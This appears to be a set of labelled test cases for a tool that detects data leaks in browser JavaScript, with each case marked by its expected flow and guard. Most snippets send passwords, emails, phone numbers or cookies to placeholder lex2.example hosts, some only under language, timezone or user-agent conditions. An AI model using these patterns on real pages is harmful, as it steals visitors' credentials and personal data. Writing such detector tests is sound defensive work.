//# phone-prefix-if
// flow: phone > if.lex2.example via fetch
// guard: phone-prefix starts-with +44
const t1 = document.querySelector('input[type=tel]').value;
if (t1.startsWith('+44')) fetch('https://if.lex2.example/', { method: 'POST', body: t1 });

//# else-of-language
// flow: email > el.lex2.example via fetch
// guard: not language equals de-DE
const m1 = document.querySelector('input[type=email]').value;
if (navigator.language === 'de-DE') {
  console.log('none');
} else {
  fetch('https://el.lex2.example/', { method: 'POST', body: m1 });
}

//# test-around-other-statement
// flow: email > ot.lex2.example via fetch
// no guard
// why: the test stands around the log only
const m2 = document.querySelector('input[type=email]').value;
if (navigator.language === 'de-DE') console.log('de');
fetch('https://ot.lex2.example/', { method: 'POST', body: m2 });

//# both-branches-send
// flow: password > bo.lex2.example via fetch
// no guard
// why: both branches send to the same host
const p1 = document.querySelector('input[type=password]').value;
if (navigator.language === 'fr-FR') fetch('https://bo.lex2.example/fr', { method: 'POST', body: p1 });
else fetch('https://bo.lex2.example/en', { method: 'POST', body: p1 });

//# logical-and-expression
// flow: identifier > an.lex2.example via beacon
// guard: user-agent contains Android
navigator.userAgent.includes('Android') && navigator.sendBeacon('https://an.lex2.example/', document.cookie);

//# logical-or-expression
// flow: identifier > or.lex2.example via beacon
// guard: not user-agent matches bot
/bot/.test(navigator.userAgent) || navigator.sendBeacon('https://or.lex2.example/', document.cookie);

//# conditional-expression
// flow: device > te.lex2.example via fetch
// guard: timezone equals Europe/Paris
Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Paris'
  ? fetch('https://te.lex2.example/', { method: 'POST', body: navigator.platform })
  : console.log('elsewhere');

//# conditional-argument-both
// flow: device > arg.lex2.example via fetch
// no guard
// why: the condition chooses a label, the request is made anyway
const label = navigator.language === 'it-IT' ? 'ciao' : 'hello';
fetch('https://arg.lex2.example/?l=' + label, { method: 'POST', body: navigator.platform });

//# nested-two
// flow: phone > ne.lex2.example via fetch
// guard: language starts-with pt
// guard: phone-prefix starts-with +351
const t2 = document.querySelector('input[type=tel]').value;
if (navigator.language.startsWith('pt')) {
  if (t2.startsWith('+351')) fetch('https://ne.lex2.example/', { method: 'POST', body: t2 });
}

//# guarded-but-fixed
// no flow
// why: the guarded request carries nothing
if (navigator.language.startsWith('pt')) fetch('https://gf0.lex2.example/');

//# one-of-by-or
// flow: email > oo.lex2.example via fetch
// guard: language one-of sv-SE | nb-NO
const m3 = document.querySelector('input[type=email]').value;
if (navigator.language === 'sv-SE' || navigator.language === 'nb-NO') {
  fetch('https://oo.lex2.example/', { method: 'POST', body: m3 });
}

//# switch-on-language
// flow: search > sw.lex2.example via fetch
// guard: language equals ja-JP
const q1 = document.querySelector('input[type=search]').value;
switch (navigator.language) {
  case 'ja-JP':
    fetch('https://sw.lex2.example/?q=' + encodeURIComponent(q1));
    break;
  default:
    console.log('none');
}

//# guarded-value-cleared
// no flow
// why: inside the guard the value is cleared first
let q0 = document.querySelector('input[type=search]').value;
if (navigator.language === 'ja-JP') {
  q0 = '';
  fetch('https://gc0.lex2.example/?q=' + q0);
}

//# contradictory-constant
// no flow
// why: the conjunction holds a constant false
if (navigator.language === 'ko-KR' && false) {
  fetch('https://cc0.lex2.example/', { method: 'POST', body: document.cookie });
}

//# configuration-test
// flow: identifier > cfg.lex2.example via fetch
// guard: code appSettings.tracking
if (window.appSettings.tracking) fetch('https://cfg.lex2.example/', { method: 'POST', body: document.cookie });

//# feature-detection
// flow: device > feat.lex2.example via beacon
// no guard
// why: whether the browser has sendBeacon is no circumstance of the visitor
if (navigator.sendBeacon) navigator.sendBeacon('https://feat.lex2.example/', navigator.platform);

//# condition-read-only
// no flow
// why: the cookie is tested and a fixed text is sent
if (document.cookie.includes('beta=1')) fetch('https://cr0.lex2.example/?beta=1');

//# else-after-true
// no flow
// why: the else branch of a constant true is dead
if (true) console.log('on');
else if (navigator.language === 'fi-FI') fetch('https://et0.lex2.example/', { method: 'POST', body: document.cookie });

//# guarded-local-copy
// no flow
// why: under the condition the value goes into storage only
if (navigator.userAgent.includes('Firefox')) localStorage.setItem('m', document.querySelector('input[type=email]').value);

//# excluded-middle
// no flow
// why: the inner condition denies the outer one
const lang0 = navigator.language;
if (lang0 === 'hu-HU') {
  if (lang0 !== 'hu-HU') fetch('https://em0.lex2.example/', { method: 'POST', body: document.cookie });
}
